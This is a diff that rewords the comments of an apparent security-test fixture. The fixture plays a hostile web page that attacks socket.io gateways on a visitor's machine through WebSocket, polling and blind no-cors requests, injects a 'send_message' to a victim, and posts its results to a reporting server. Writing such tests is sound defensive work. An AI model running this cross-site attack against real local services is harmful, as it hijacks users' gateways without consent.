@@ -1,5 +1,5 @@
-// What a hostile page does to gateways on the machine of the person who looks at it. It runs in pages, frames and workers; what
-// it achieved it sends to its own server. PLAN is put in front: {context, report, services, users}.
+// Plays a hostile page that attacks the gateways on the machine of its visitor. It runs in pages, frames and workers, and reports
+// what it achieved to its own server. The test prepends PLAN: {context, report, services, users}.
 (async () => {
   const wins = [];
   const won = (what) => wins.push(what);
@@ -8,14 +8,14 @@
     try {
       return await within(4000, promise);
     } catch {
-      return undefined; // Refused: by the server or the browser.
+      return undefined; // The server or the browser refused it.
     }
   };
   const tell = (state) =>
     fetch(PLAN.report, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ context: PLAN.context, state, wins }) });
   const say = (how) => `["send_message",{"recipientIds":["victim"],"message":"from ${PLAN.context} by ${how}"}]`;
 
-  /** WebSocket, which CORS does not concern. */
+  /** WebSocket, which CORS does not restrict. */
   const byWebSocket = (base) =>
     attempt(
       new Promise((resolve) => {
@@ -30,7 +30,7 @@
       }),
     );
 
-  /** Polling by a page that may read. */
+  /** Polling, for a page that can read the answers. */
   const byPolling = async (base) => {
     const url = `${base}/socket.io/?EIO=4&transport=polling`;
     const opened = await attempt(fetch(url));
@@ -44,7 +44,7 @@
     await post(`420${say('polling')}`);
   };
 
-  /** Requests that browsers send without asking the server before, and whose answers the page cannot read. */
+  /** Requests that browsers send without a preflight, and whose answers the page cannot read. */
   const blindly = async (base) => {
     const url = `${base}/socket.io/?EIO=4&transport=polling`;
     await attempt(fetch(url, { mode: 'no-cors' }));
